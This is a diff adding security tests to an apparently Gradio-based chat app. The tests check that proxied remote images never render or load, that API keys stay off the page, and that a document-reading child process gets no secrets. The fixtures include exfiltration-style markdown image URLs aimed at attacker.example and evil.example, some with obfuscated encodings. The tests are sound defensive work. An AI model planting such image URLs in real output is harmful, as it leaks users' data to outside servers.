@@ -16,7 +16,7 @@ import sys
 import threading
 import time
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
-from urllib.parse import quote, urlparse
+from urllib.parse import quote, unquote, urlparse
 
 import pytest
 from conftest import CHROMIUM, CHROMIUM_ARGS, free_port, run_cli
@@ -544,6 +544,53 @@ def test_a_summary_with_a_remote_image_shows_a_link(served, page, remote, tmp_pa
     assert remote.seen == ["/control.png"]
 
 
+PROXIED = ["/gradio_api/file=https://attacker.example/?d=SECRET", "gradio_api/file=http://attacker.example/b.png",
+           "/gradio_api/file=https%3A%2F%2Fattacker.example%2Fc.png"]
+
+
+def test_images_through_the_apps_proxy_are_never_shown(served, page, tmp_path):
+    """A reply and a summary carry the three ways to make Gradio fetch another server: Chromium
+    shows no <img> pointing there and asks the app for none of them."""
+    from app.documents.reading import read_document
+
+    demo, url = served
+    images = "\n\n".join(f"![leak {n}]({target})" for n, target in enumerate(PROXIED))
+    history = demo.nemo.history
+    cid = history.create_conversation("proxied pictures")
+    history.add_message(cid, "user", "Show me.")
+    history.add_message(cid, "assistant", f"Here they are.\n\n{images}\n\n![dot]({DATA_PNG})")
+    store = demo.nemo.documents
+    source = tmp_path / "notes.md"
+    source.write_text("# Notes\n\nA few words about the harbour.\n", encoding="utf-8")
+    document_id, _ = store.add(read_document(source))
+    store.save_summary(document_id, "smollm2", {}, f"A summary.\n\n{images}", 1, 1)
+    page.goto(url)
+    page.locator("#conversation-list label", has_text="proxied pictures").click()
+    page.locator("#chatbot", has_text="leak 2").wait_for(timeout=30_000)
+    page.get_by_role("tab", name="Documents").click()
+    page.locator("#doc-choice input").click()
+    page.get_by_role("option", name="notes.md", exact=False).click()
+    page.locator("#doc-summary", has_text="leak 2").wait_for(timeout=30_000)
+    sources = page.locator("img").evaluate_all("images => images.map(i => decodeURIComponent(i.src))")
+    assert DATA_PNG in sources, "the app's own images still show"
+    assert not [s for s in sources if "file=http" in s.lower() or "attacker" in s], sources
+    asked = [unquote(u) for u in page.requests_seen if "attacker" in unquote(u)]
+    assert asked == [], asked
+    assert "leak 0" in page.locator("#chatbot").inner_text() and "leak 1" in page.locator("#doc-summary").inner_text()
+
+
+def test_every_markdown_of_the_page_is_rewritten(served):
+    import gradio as gr
+
+    from app.faces.safe_markdown import SafeMarkdown
+
+    demo, _ = served
+    markdowns = [block for block in demo.blocks.values() if isinstance(block, gr.Markdown)]
+    assert len(markdowns) > 10 and all(isinstance(block, SafeMarkdown) for block in markdowns)
+    assert markdowns[0].get_block_name() == "markdown"
+    assert SafeMarkdown().postprocess(f"![x]({PROXIED[0]})") == "🖼 x"
+
+
 def test_streamed_replies_are_rewritten_too(served):
     """ChatUI.follow shows the reply while it streams: its text passes the same rewrite."""
     from app.base.jobs import Job
@@ -572,6 +619,10 @@ def test_streamed_replies_are_rewritten_too(served):
     ('<img src="/ok.png" srcset="https://evil.example/2x.png 2x">', "[🖼 image](<https://evil.example/2x.png>)"),
     ('<video src="https://evil.example/v.mp4"></video>', '&lt;video src="https://evil.example/v.mp4"></video>'),
     ("![x](javascript:alert(1))", "🖼 x"),
+    ("![a](/gradio_api/file=https://evil.example/?d=secret)", "🖼 a"),  # Gradio's server-side proxy
+    ("![b](gradio_api/file=http://evil.example/b.png)", "🖼 b"),
+    ("![c](/gradio_api/file=https%3A%2F%2Fevil.example%2Fc.png)", "🖼 c"),
+    ('<img src="/gradio_api/file=https://evil.example/d.png">', "🖼 image"),
 ])
 def test_remote_images_become_links(text, expected):
     assert remote_images_as_links(text) == expected
@@ -599,8 +650,96 @@ def test_code_and_text_in_one_message():
 def test_local_urls():
     assert is_local_url("picture.png") and is_local_url("/gradio_api/file=x") and is_local_url("DATA:image/png,x")
     for remote_url in ("https://a.example", "//a.example", "/\\a.example", "\\\\a.example", " https://a",
-                       "ht\ttps://a.example", "&#104;ttps://a.example", "<https://a.example/x y>", "javascript:x"):
+                       "ht\ttps://a.example", "&#104;ttps://a.example", "<https://a.example/x y>", "javascript:x",
+                       "/gradio_api/file=https://a.example", "gradio_api/file=http%3A//a", "/gradio_api/fil%65=https://a",
+                       "/gradio_api/file=&#104;ttps://a.example", "/gradio_api/proxy=x"):
         assert not is_local_url(remote_url), remote_url
+
+
+# -- keys stay on the server ----------------------------------------------------------------------------
+SECRET = "sk-remote-" + "7" * 24
+
+
+def test_the_remote_key_never_reaches_the_page(home, page, artifacts):
+    """The engine's key is in the settings; /config, the page and its fields never carry it, and
+    Settings shows "•••• set" with Replace and Clear."""
+    from app.faces.api_server import ApiServer
+    from app.services.root import Services
+    from app.ui import build_app, launch
+
+    with Services(Settings(model="smollm2", n_ctx=1024)) as engine_side:
+        remote = ApiServer(engine_side, port=free_port()).start()  # takes any key
+        save_settings(Settings(model="smollm2", n_ctx=1024, remote=remote.url, remote_key=SECRET))
+        demo, style = build_app()
+        port = free_port()
+        launch(demo, style, port=port, block=False)
+        url = f"http://127.0.0.1:{port}/"
+        try:
+            for path in ("/config", "/"):
+                status, _, text = ask(url, path)
+                assert status == 200 and SECRET not in text.decode(), path
+            page.goto(url)
+            page.get_by_role("tab", name="Settings").click()
+            key_set = page.locator("#engine-key-set")
+            key_set.get_by_text("•••• set").wait_for(timeout=30_000)
+            assert page.locator("#engine-key input").count() == 0 or not page.locator("#engine-key input").is_visible()
+            key_set.scroll_into_view_if_needed()
+            page.screenshot(path=str(artifacts / "ui-settings-engine-key-set.png"))
+            values = "() => [...document.querySelectorAll('input, textarea')].map(e => e.value).join(' ')"
+            assert SECRET not in page.evaluate(values) and SECRET not in page.content()
+
+            page.locator("#engine-key-replace").click()
+            page.locator("#engine-key input").click()
+            page.keyboard.type("sk-replaced-key")
+            page.locator("#engine-use").click()
+            page.locator("#engine-status", has_text="Saved").wait_for(timeout=60_000)
+            assert demo.nemo.settings.remote_key == "sk-replaced-key"
+            key_set.get_by_text("•••• set").wait_for(timeout=30_000)
+            assert "sk-replaced-key" not in page.evaluate(values)
+
+            page.locator("#engine-key-clear").click()
+            page.locator("#engine-status", has_text="The API key is cleared").wait_for(timeout=60_000)
+            assert demo.nemo.settings.remote_key == "" and page.locator("#engine-key input").is_visible()
+            status, _, text = ask(url, "/config")
+            assert status == 200 and "sk-replaced-key" not in text.decode() and SECRET not in text.decode()
+        finally:
+            demo.close()
+            remote.stop()
+
+
+def test_a_new_server_url_never_gets_the_saved_key():
+    from app.faces.ui_engine import key_to_use
+
+    saved = Settings(remote="http://10.0.0.5:8000/v1", remote_key=SECRET)
+    assert key_to_use(saved, "http://10.0.0.5:8000/v1/", "") == SECRET
+    assert key_to_use(saved, "https://collector.example/v1", "") == ""
+    assert key_to_use(saved, "https://collector.example/v1", " typed ") == "typed"
+
+
+def test_the_document_reader_gets_no_secrets(home, tmp_path, monkeypatch):
+    """The child that reads an untrusted file starts without tokens, keys, HF_* or NEMO_CHAT_*."""
+    import subprocess
+
+    from app.base.child_env import is_secret
+    from app.documents.parse_limits import parse_in_child
+
+    for name in ("HF_TOKEN", "NEMO_CHAT_REMOTE_KEY", "NEMO_CHAT_TOKEN", "OPENAI_API_KEY", "GITHUB_TOKEN",
+                 "AWS_SECRET_ACCESS_KEY", "HF_HOME", "my_password"):
+        monkeypatch.setenv(name, "secret-value")
+    started, real_popen = [], subprocess.Popen
+
+    def recording_popen(*args, **kwargs):  # the real child runs; its environment is kept to look at
+        started.append(kwargs["env"])
+        return real_popen(*args, **kwargs)
+
+    monkeypatch.setattr(subprocess, "Popen", recording_popen)
+    title, _, parts = parse_in_child("text", b"Hello from a file.\n", "note.txt", timeout_s=60, memory_mb=2048,
+                                     max_pages=10)
+    assert parts and "Hello from a file." in parts[0].text
+    [env] = started
+    assert [name for name in env if is_secret(name) or "secret-value" == env[name]] == []
+    assert env["PATH"] == os.environ["PATH"] and "PYTHONPATH" in env
+    assert not is_secret("PATH") and not is_secret("LANG") and not is_secret("PYTHONPATH")
 
 
 # -- a non-loopback bind needs a token -------------------------------------------------------------------
